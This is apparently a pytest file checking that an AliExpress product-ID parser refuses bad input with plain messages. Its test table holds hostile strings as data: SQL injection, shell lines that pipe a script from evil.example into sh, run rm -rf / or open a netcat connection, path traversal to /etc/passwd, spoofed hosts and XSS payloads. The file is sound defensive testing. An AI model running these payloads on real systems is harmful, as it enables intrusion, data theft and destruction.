"""Whatever people paste into the product box: one table of bad and noisy-but-valid
input for parse_product_ref and the platform id validators.

A bad case must raise InvalidQuery with a plain message (no traceback, no Python repr,
no control characters, nothing that renders as a link or markup) containing the words
that tell the person what to do. A valid case with noise must give the right id.
"""
from __future__ import annotations

import re
import unicodedata

import pytest

from lib.errors import InvalidQuery
from lib.platforms import PLATFORMS
from lib.query import (normalise_country, normalise_currency, normalise_language,
                       parse_product_ref)

ID = "1005006789012345"
LINK = f"https://www.aliexpress.com/item/{ID}.html"
HINT = ("10 to 19 digits", ID)                     # the AliExpress id hint
WEB = ("https://",)

# (text, platform, expected id or None for "must be refused", words in the message)
CASES = [
    # -- empty and blank
    ("", None, None, ("Enter a product ID",)),
    ("   ", None, None, ("Enter a product ID",)),
    ("\n\t \r\n", None, None, ("Enter a product ID",)),
    ("\u00a0\u2003", None, None, ("Enter a product ID",)),           # no-break/em spaces
    ('""', None, None, ("Enter a product ID",)),
    # -- not an AliExpress id
    ("abcdefghijklmnop", None, None, HINT),
    ("10050067890123ab", None, None, HINT),                         # letters in the id
    ("ID1005006789012345", None, None, HINT),
    ("12345", None, None, HINT + ("5 digits",)),                    # too short
    ("123456789", None, None, HINT + ("9 digits",)),
    ("12345678901234567890123", None, None, HINT + ("23 digits",)),  # too long
    ("-1005006789012345", None, None, HINT + ("whole product number",)),   # negative
    ("+1005006789012345", None, None, HINT + ("whole product number",)),
    ("1005006789012345.5", None, None, HINT + ("whole product number",)),  # float
    ("1.005006789012345e15", None, None, HINT + ("whole product number",)),  # scientific
    ("1E15", None, None, HINT),
    ("0x3921a", None, None, HINT),                                  # hexadecimal
    ("0005006789012345", None, None, HINT + ("starts with a zero",)),
    # -- digits that are not 0-9
    ("１００５００６７８９０１２３４５", None, None, HINT + ("digits other than 0-9",)),
    ("١٠٠٥٠٠٦٧٨٩٠١٢٣٤٥", None, None, HINT + ("digits other than 0-9",)),
    ("१००५००६७८९०१२३४५", None, None, HINT + ("digits other than 0-9",)),  # Devanagari
    ("1005006789012345²", None, None, HINT + ("digits other than 0-9",)),  # superscript
    # -- control and invisible characters
    (f"{ID[:8]}\x00{ID[8:]}", None, None, ("control characters",)),
    (f"{ID}\u200b", None, None, ("control characters",)),           # zero-width space
    (f"\u202e{ID}", None, None, ("control characters",)),           # right-to-left override
    (f"{ID[:8]}\x1b[2J{ID[8:]}", None, None, ("control characters",)),  # terminal escape
    (f"{ID}\x7f", None, None, ("control characters",)),
    # -- very long
    ("9" * 5000, None, None, ("too long",)),
    (LINK + "?x=" + "a" * 3000, None, None, ("too long",)),
    # -- SQL and shell fragments
    (f"{ID}' OR '1'='1", None, None, HINT + ("characters that no product ID has",)),
    (f"{ID}; DROP TABLE products;--", None, None, HINT + ("no product ID has",)),
    ("1 OR 1=1", None, None, HINT),
    (f"{ID} UNION SELECT password FROM users", None, None, HINT),
    (f"$(curl evil.example/x.sh | sh)", None, None, HINT + ("no product ID has",)),
    (f"`rm -rf /`", None, None, HINT),
    (f"{ID} && cat /etc/passwd", None, None, HINT),
    (f"{ID}|nc evil.example 4444", None, None, HINT),
    # -- path tricks
    ("../../../etc/passwd", None, None, HINT + ("no product ID has",)),
    ("..%2f..%2fetc%2fpasswd", None, None, HINT),
    ("https://www.aliexpress.com/item/../../etc/passwd", None, None, ("malformed",)),
    (f"https://www.aliexpress.com/%2e%2e/%2e%2e/item/{ID}.html", None, None, ("malformed",)),
    (f"https://www.aliexpress.com/item/%2E%2E%2f{ID}.html", None, None, ("malformed",)),
    (f"https://www.aliexpress.com/item/%25252e%25252e/{ID}.html", None, None, ("malformed",)),
    (f"https://www.aliexpress.com\\..\\item\\{ID}.html", None, None, ("malformed",)),
    # -- other sites
    ("https://www.amazon.com/dp/B08N5WRWNW", None, None, ("www.amazon.com", "not supported")),
    ("https://www.ebay.com/itm/1005006789012345", None, None, ("not supported",)),
    (f"https://aliexpress.com.evil.example/item/{ID}.html", None, None, ("not supported",)),
    (f"https://evil.example/www.aliexpress.com/item/{ID}.html", None, None,
     ("not supported",)),
    (f"https://www.aliexpress.com@evil.example/item/{ID}.html", None, None,
     ("not supported",)),
    (f"https://www.аliexpress.com/item/{ID}.html", None, None, ("not supported",)),  # Cyrillic а
    (f"http://127.0.0.1:8501/item/{ID}.html", None, None, ("not supported",)),
    # -- scripts and data
    ("javascript:alert(document.cookie)", None, None, WEB + ("product ID",)),
    ("JAVASCRIPT:alert(1)", None, None, WEB),
    (f"javascript://www.aliexpress.com/item/{ID}.html%0Aalert(1)", None, None, WEB),
    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", None, None, WEB),
    ("vbscript:msgbox(1)", None, None, WEB),
    ("file:///etc/passwd", None, None, WEB),
    (f"ftp://www.aliexpress.com/item/{ID}.html", None, None, WEB),
    ("<script>alert(1)</script>", None, None, HINT + ("no product ID has",)),
    ('<img src=x onerror="alert(1)">', None, None, HINT),
    ("[click me](https://evil.example)", None, None, ()),
    ("![x](https://evil.example/pixel.png)", None, None, ()),
    # -- short links: say so, ask for the full link
    ("https://a.aliexpress.com/_mKxyzAb", None, None, ("short", "full link", "/item/")),
    ("https://s.click.aliexpress.com/e/_DmXyZ12", None, None, ("short", "full link")),
    ("a.aliexpress.com/_mLkJhGf", None, None, ("short", "full link")),
    # -- AliExpress links that are not product pages
    ("https://www.aliexpress.com/", None, None, ("/item/",)),
    ("https://www.aliexpress.com/item/notanumber.html", None, None, ("/item/",)),
    ("https://www.aliexpress.com/item/123.html", None, None, HINT),
    ("https://www.aliexpress.com/item/1005006789012345.html?productId=[x](https://evil.example)",
     None, None, ()),
    # -- other platforms' validators
    ("AAF2jmk4", "alibaba", "AAF2jmk4", ()),
    ("AA", "alibaba", None, ("Alibaba.com",)),
    ("123", "alibaba", None, ("digits",)),
    ("AAF2jmk4AOWGex<script>", "alibaba", None, ("no product ID has",)),
    ("CMaplyr4bzck123", "tuya", "CMaplyr4bzck123", ()),
    ("CMaplyr4bzck***", "tuya", None, ("masked",)),
    ("123CM", "tuya", None, ("commodity code",)),
    ("CM' OR 1=1", "tuya", None, ("no product ID has",)),
    ("https://www.aliexpress.com/item/1005006789012345.html", "tuya", ID, ()),
    (ID, "aliexpress-affiliate", ID, ()),
    ("-5", "aliexpress-seller", None, ("whole product number",)),
    # -- valid input with noise: accepted
    (f"  {ID}  ", None, ID, ()),
    (f"\t{ID}\n", None, ID, ()),
    (f'"{ID}"', None, ID, ()),
    (f"“{ID}”", None, ID, ()),                                   # typographic quotes
    (f"<{LINK}>", None, ID, ()),                                  # mail-style brackets
    (f"{LINK}?spm=a2g0o.home.0.0.62b7c4c1&gatewayAdapt=glo2bra&pdp_npi=4%40dis", None, ID,
     ()),
    (f"{LINK}#nav-review", None, ID, ()),
    (f"{LINK}?aff_fcid=abc#reviews", None, ID, ()),
    (f"{LINK}/", None, ID, ()),
    (f"https://m.aliexpress.com/item/{ID}/", None, ID, ()),
    (f"HTTPS://WWW.ALIEXPRESS.COM/item/{ID}.html", None, ID, ()),
    (f"https://www.aliexpress.com./item/{ID}.html", None, ID, ()),   # trailing-dot host
    (f"https://www.aliexpress.com:443/item/{ID}.html", None, ID, ()),
    (f"www.aliexpress.com/item/{ID}.html", None, ID, ()),
    (f"//pt.aliexpress.com/item/{ID}.html", None, ID, ()),
    (f"{LINK}.", None, ID, ()),                                  # copied with a full stop
    (f"See {LINK}", None, None, ()),                              # a sentence: refused
]


def plain_message_problems(message: str) -> list[str]:
    problems = []
    for internal in ("Traceback", "Error:", "Exception", 'File "', "None", "\\x", "\\u",
                     "b'", "<class", "object at 0x", "{'", "<script", "](", "!["):
        if internal in message:
            problems.append(internal)
    if any(unicodedata.category(c)[0] == "C" for c in message):
        problems.append("control character")
    if not message or len(message) > 400:
        problems.append("length")
    if re.search(r"\[[^\]]*\]\(", message):
        problems.append("markdown link")
    return problems


@pytest.mark.parametrize("text, platform, expected, words", CASES,
                         ids=[f"{i:02d}-{(p or '')[:6]}-{t[:40]!r}"
                              for i, (t, p, _, _) in enumerate(CASES)])
def test_product_box(text, platform, expected, words):
    if expected is not None:
        query = parse_product_ref(text, platform)
        assert query.product_id == expected
        return
    with pytest.raises(InvalidQuery) as info:
        parse_product_ref(text, platform)
    error = info.value
    message = error.user_message
    assert plain_message_problems(message) == [], message
    for word in words:
        assert word in message, (word, message)
    assert str(error).startswith(message)
    assert error.retryable is False


def test_the_table_is_big_enough():
    assert len(CASES) >= 50
    assert sum(expected is None for _, _, expected, _ in CASES) >= 50


@pytest.mark.parametrize("key", list(PLATFORMS))
@pytest.mark.parametrize("text", ["", " ", "x" * 3000, "<b>1</b>", "１２３", "a\x00b",
                                  "1e10", "-1", "../x"])
def test_every_platform_refuses_junk_plainly(key, text):
    with pytest.raises(InvalidQuery) as info:
        parse_product_ref(text, key)
    assert plain_message_problems(info.value.user_message) == []


# --- locale settings: real code lists ----------------------------------------------------
@pytest.mark.parametrize("text, expected", [
    ("us", "US"), ("UK", "GB"), ("uk", "GB"), (" gb ", "GB"), ("BR", "BR"), ("IL", "IL"),
    ("XK", None), ("ZZ", None), ("EU", None), ("USA", None), ("Brazil", None),
    ("", None), ("1", None), ("<b>", None), (None, None), ("U S", None),
])
def test_countries(text, expected):
    if expected:
        assert normalise_country(text) == expected
        return
    with pytest.raises(InvalidQuery) as info:
        normalise_country(text)
    message = info.value.user_message
    assert "country code" in message and "two letters" in message
    assert plain_message_problems(message) == []


def test_country_names_get_their_code_suggested():
    with pytest.raises(InvalidQuery, match="BR for Brazil"):
        normalise_country("Brazil")
    with pytest.raises(InvalidQuery, match="US for United States"):
        normalise_country("USA")


@pytest.mark.parametrize("text, expected", [
    ("usd", "USD"), ("EUR", "EUR"), (" brl ", "BRL"), ("ILS", "ILS"), ("KRW", "KRW"),
    ("ABC", None), ("XXX", None), ("XTS", None), ("US", None), ("DOLLAR", None),
    ("$", None), ("", None), (None, None), ("EURO", None),
])
def test_currencies(text, expected):
    if expected:
        assert normalise_currency(text) == expected
        return
    with pytest.raises(InvalidQuery) as info:
        normalise_currency(text)
    message = info.value.user_message
    assert "currency code" in message and "three letters" in message
    assert plain_message_problems(message) == []


def test_currency_names_get_their_code_suggested():
    with pytest.raises(InvalidQuery, match="EUR for Euro"):
        normalise_currency("Euro")


@pytest.mark.parametrize("text, expected", [
    ("en", "en"), ("EN", "en"), ("pt_br", "pt_BR"), ("pt-BR", "pt_BR"), ("he", "he"),
    ("iw", "iw"), ("iw_IL", "iw_IL"), ("in_ID", "in_ID"), ("en_UK", "en_GB"),
    ("zh_CN", "zh_CN"), ("es_MX", "es_MX"),
    ("xx", None), ("en_ZZ", None), ("english", None), ("e", None), ("eng", None),
    ("", None), (None, None), ("en_US_POSIX", None), ("<en>", None),
])
def test_languages(text, expected):
    if expected:
        assert normalise_language(text) == expected
        return
    with pytest.raises(InvalidQuery) as info:
        normalise_language(text)
    message = info.value.user_message
    assert "language code" in message
    assert plain_message_problems(message) == []


def test_language_names_get_their_code_suggested():
    with pytest.raises(InvalidQuery, match="en for English"):
        normalise_language("English")


def test_locale_errors_through_parse_product_ref():
    with pytest.raises(InvalidQuery, match="country code"):
        parse_product_ref(ID, country="Atlantis")
    with pytest.raises(InvalidQuery, match="currency code"):
        parse_product_ref(ID, currency="BTC")
    with pytest.raises(InvalidQuery, match="language code"):
        parse_product_ref(ID, language="klingon")
    query = parse_product_ref(ID, country="uk", currency="gbp", language="en-gb")
    assert (query.country, query.currency, query.language) == ("GB", "GBP", "en_GB")


def test_a_shared_link_cannot_inject_markup_through_the_platform_name():
    with pytest.raises(InvalidQuery) as info:
        parse_product_ref(ID, platform="[x](https://evil.example)")
    assert plain_message_problems(info.value.user_message) == []
    assert "evil.example" not in info.value.user_message
